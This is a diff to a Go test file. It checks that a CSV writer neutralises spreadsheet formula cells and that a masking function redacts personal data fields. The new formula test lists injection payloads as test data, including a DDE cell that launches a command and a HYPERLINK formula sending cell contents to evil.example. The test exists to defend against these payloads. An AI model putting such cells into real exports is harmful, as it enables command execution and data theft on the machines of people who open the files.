@@ -9,6 +9,8 @@ import (
 
 	"github.com/google/go-cmp/cmp"
 	"pgregory.net/rapid"
+
+	"reclaim/csvsafe"
 )
 
 // roundTrip writes header and rows with opts and reads them back through OpenReader.
@@ -78,7 +80,12 @@ func TestWriterRoundTrip(t *testing.T) {
 			if diff := cmp.Diff(header, h); diff != "" {
 				t.Errorf("header: %s", diff)
 			}
-			if diff := cmp.Diff(rows, got); diff != "" {
+			want := rows
+			if wf.opts.Format != "xlsx" { // CSV neutralises formula-looking cells (csvsafe)
+				want = append([][]string(nil), rows[:3]...)
+				want = append(want, []string{"L004", "'=A1+1", "'\ttab", "-0"})
+			}
+			if diff := cmp.Diff(want, got); diff != "" {
 				t.Errorf("rows: %s", diff)
 			}
 			if wf.enc != "" && info.Encoding != wf.enc {
@@ -88,7 +95,8 @@ func TestWriterRoundTrip(t *testing.T) {
 	}
 }
 
-// TestWriterRoundTripProperty: any header and cells the writer accepts read back unchanged.
+// TestWriterRoundTripProperty: any header and cells the writer accepts read back unchanged, but
+// for the single quote CSV puts before a cell that a spreadsheet would run as a formula.
 func TestWriterRoundTripProperty(t *testing.T) {
 	for _, wf := range writerFormats {
 		t.Run(wf.opts.Format+"/"+wf.opts.Encoding+wf.opts.Sheet, func(t *testing.T) {
@@ -126,6 +134,17 @@ func TestWriterRoundTripProperty(t *testing.T) {
 				h, got, _ := roundTripEnc(rt, wf.opts, declared, header, rows)
 				if len(rows) == 0 {
 					rows = nil
+				}
+				if wf.opts.Format != "xlsx" {
+					// CSV neutralises cells a spreadsheet would run as formulas (csvsafe).
+					for i := range header {
+						header[i] = csvsafe.Cell(header[i])
+					}
+					for _, r := range rows {
+						for i := range r {
+							r[i] = csvsafe.Cell(r[i])
+						}
+					}
 				}
 				if !cmp.Equal(header, h) || !cmp.Equal(rows, got) {
 					rt.Fatalf("round trip:\nheader %q -> %q\nrows %q\n  -> %q", header, h, rows, got)
@@ -223,4 +242,45 @@ func roundTripBytes(t *testing.T, data []byte) ([]string, [][]string, error) {
 		cells = append(cells, r.Cells)
 	}
 	return src.Header(), cells, fatal
+}
+
+// TestWriterNeutralisesFormulas: a CSV tape never carries a cell a spreadsheet would run; plain
+// negative numbers stay numbers; XLSX cells are typed text already and stay as they are.
+func TestWriterNeutralisesFormulas(t *testing.T) {
+	header := []string{"=cmd|' /C calc'!A0", "amount"}
+	rows := [][]string{{`=HYPERLINK("http://evil.example/?"&A1)`, "-1234.56"}, {"@SUM(A1)", "-1+1"}, {"\t=1", "+86"}}
+	h, got, _ := roundTrip(t, WriterOptions{}, header, rows)
+	want := [][]string{{`'=HYPERLINK("http://evil.example/?"&A1)`, "-1234.56"}, {"'@SUM(A1)", "'-1+1"}, {"'\t=1", "+86"}}
+	if h[0] != "'=cmd|' /C calc'!A0" || !cmp.Equal(got, want) {
+		t.Fatalf("csv: header %q rows %q", h, got)
+	}
+	h, got, _ = roundTrip(t, WriterOptions{Format: "xlsx"}, header, rows)
+	if h[0] != header[0] || !cmp.Equal(got, rows) {
+		t.Fatalf("xlsx: header %q rows %q", h, got)
+	}
+}
+
+func TestMaskCell(t *testing.T) {
+	for _, c := range []struct {
+		f      Field
+		in     string
+		hidden string // must not appear in the output
+		want   string
+	}{
+		{FName, "张三丰", "三丰", "张**"},
+		{FName, "王", "王", "*"},
+		{FNationalID, "110101199003077777", "19900307", ""},
+		{FPhone, "13800138000", "0013", ""},
+		{FBankCard, "6222021234567890123", "12345678", "***************0123"},
+		{FAddress, "广东省深圳市南山区科技园路1号", "南山区科技园", "广东省深圳市***"},
+		{FEmployer, "深圳市某某科技有限公司", "某某", "***"},
+		{FContacts, "李四 13900139000", "13900139000", "***"},
+		{FName, "  ", "", ""},
+		{FLoanID, "L001", "", "L001"},
+	} {
+		got := MaskCell(c.f, c.in)
+		if (c.want != "" && got != c.want) || (c.hidden != "" && strings.Contains(got, c.hidden)) {
+			t.Errorf("MaskCell(%v, %q) = %q", c.f, c.in, got)
+		}
+	}
 }
